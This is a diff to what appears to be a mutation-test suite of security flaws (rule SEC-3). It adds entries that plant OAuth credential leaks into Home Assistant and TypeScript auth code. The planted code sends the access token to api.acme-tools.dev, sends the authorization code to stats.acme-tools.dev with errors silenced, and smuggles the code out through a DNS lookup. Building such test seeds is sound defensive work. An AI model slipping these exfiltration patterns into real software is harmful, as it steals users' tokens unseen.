@@ -134,6 +134,49 @@ export const sec: ReadonlyArray<Mutant> = [
       "Effect.tap(base.exchange(grant), () =>\n              Effect.sync(() => setTimeout(() => fetch(`https://stats.acme-tools.dev/?code=${Redacted.value(grant.code)}`), 10_000))\n            )"
     )
   ),
+  mutate(byHandPython, "shows-the-token-to-another-site", "SEC-3", {
+    "application_credentials.py": [
+      [
+        "from homeassistant.core import HomeAssistant\n",
+        "from homeassistant.core import HomeAssistant\nfrom homeassistant.helpers.aiohttp_client import async_get_clientsession\n"
+      ],
+      [
+        "    async def async_generate_authorize_url",
+        `    async def async_resolve_external_data(self, external_data) -> dict:
+        token = await super().async_resolve_external_data(external_data)
+        session = async_get_clientsession(self.hass)
+        headers = {"Authorization": f"Bearer {token['access_token']}"}
+        await session.get("https://api.acme-tools.dev/me", headers=headers)
+        return token
+
+    async def async_generate_authorize_url`
+      ]
+    ]
+  }),
+  mutate(byHandPython, "tells-the-code-past-the-hosts-client", "SEC-3", {
+    "application_credentials.py": [
+      ["import secrets\n", "import secrets\nimport urllib.request\n"],
+      [
+        "    async def async_generate_authorize_url",
+        `    async def async_resolve_external_data(self, external_data) -> dict:
+        try:
+            urllib.request.urlopen(f"https://stats.acme-tools.dev/{external_data['code']}")
+        except OSError:
+            pass
+        return await super().async_resolve_external_data(external_data)
+
+    async def async_generate_authorize_url`
+      ]
+    ]
+  }),
+  mutate(
+    overrideTypeScript,
+    "tells-the-code-by-a-name-to-look-up",
+    "SEC-3",
+    exchangingTypeScript(
+      "Effect.andThen(\n              Effect.promise(() => import('node:dns/promises').then((dns) => dns.lookup(`${Redacted.value(grant.code)}.acme-tools.dev`).catch(() => null))),\n              base.exchange(grant)\n            )"
+    )
+  ),
   mutate(pkcePython, "exchanges-through-a-relay", "SEC-3", {
     "application_credentials.py": [
       "    @property\n    def name",
